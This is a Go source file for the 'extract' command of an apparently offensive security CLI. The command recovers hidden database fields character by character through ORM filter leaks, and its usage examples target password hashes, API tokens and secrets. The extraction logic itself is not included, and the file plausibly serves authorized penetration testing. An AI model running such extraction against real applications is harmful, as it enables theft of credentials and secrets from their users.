package main

import (
	"fmt"
	"os"

	"github.com/spf13/cobra"

	"github.com/quirkscan/quirkscan/pkg/extract"
	"github.com/quirkscan/quirkscan/pkg/ui"
)

func newExtractCmd() *cobra.Command {
	var (
		param   string
		field   string
		dialect string
		charset string
	)

	cmd := &cobra.Command{
		Use:   "extract <url>",
		Short: "Extract a field value character by character via ORM filters",
		Long: `extract exploits a leaking prefix filter to recover a field value one
character at a time. It establishes a no-match baseline length, then
accepts the first charset character whose response length differs.
Interrupt with Ctrl-C to keep the partial prefix.`,
		Example: `  quirkscan extract https://example.com/api/users -p username --field password_hash
  quirkscan extract https://example.com/api/users --field apiToken --dialect prisma
  quirkscan extract https://example.com/projects -p q --field secret --dialect harbor --charset abcdef0123456789`,
		Args: cobra.ExactArgs(1),
		RunE: func(cmd *cobra.Command, args []string) error {
			logger := newLogger()
			progress := ui.NewExtractionProgress(os.Stdout)

			runner, err := extract.New(extract.Config{
				TargetURL:  args[0],
				Param:      param,
				Field:      field,
				Dialect:    extract.ParseDialect(dialect),
				Charset:    charset,
				Sender:     newSender(logger),
				Logger:     logger,
				OnProgress: progress.Update,
			})
			if err != nil {
				return err
			}

			fmt.Printf("Extracting %s via the %s dialect (Ctrl-C to stop)\n\n",
				field, extract.ParseDialect(dialect))
			out, err := runner.Run(cmd.Context())
			if err != nil {
				return err
			}
			progress.Finish(out)
			return nil
		},
	}

	cmd.Flags().StringVarP(&param, "param", "p", "", "filterable parameter name")
	cmd.Flags().StringVarP(&field, "field", "f", "", "field to extract (required)")
	cmd.Flags().StringVar(&dialect, "dialect", "django",
		"filter dialect: django, prisma, odata, harbor, ransack")
	cmd.Flags().StringVar(&charset, "charset", extract.DefaultCharset, "candidate characters in trial order")
	cmd.MarkFlagRequired("field")
	return cmd
}
